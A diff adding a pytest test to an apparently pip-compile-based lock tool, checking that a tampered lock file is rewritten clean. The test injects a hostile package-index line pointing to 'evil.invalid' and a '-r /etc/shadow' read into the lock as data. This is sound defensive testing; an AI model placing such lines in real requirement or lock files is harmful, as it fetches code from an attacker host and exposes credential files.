@@ -170,6 +170,19 @@ def test_reuse_false_or_an_edited_lock_file_runs_pip_compile_again(tmp_path: Pat
     assert len(fake.commands) == 3
 
 
+def test_a_reused_lock_edited_to_add_a_pip_option_is_written_back_without_it(tmp_path: Path) -> None:
+    fake = FakePipCompile()
+    first = compute_lock(make_target(*REQS), tmp_path, runner=fake, host=HOST)
+    path = tmp_path / LOCK_FILE
+    digest_line, rest = path.read_text().split("\n", 1)
+    path.write_text(f"{digest_line}\n--index-url http://evil.invalid/simple\n-r /etc/shadow\n{rest}")
+    reused = compute_lock(make_target(*REQS), tmp_path, runner=fake, host=HOST)
+
+    assert len(fake.commands) == 1
+    assert reused.text == first.text == path.read_text()
+    assert "evil" not in reused.text and "/etc/shadow" not in reused.text
+
+
 def test_unreproducible_requirements_are_all_named_with_reason_and_how_to_exclude(tmp_path: Path) -> None:
     target = make_target(
         *REQS,
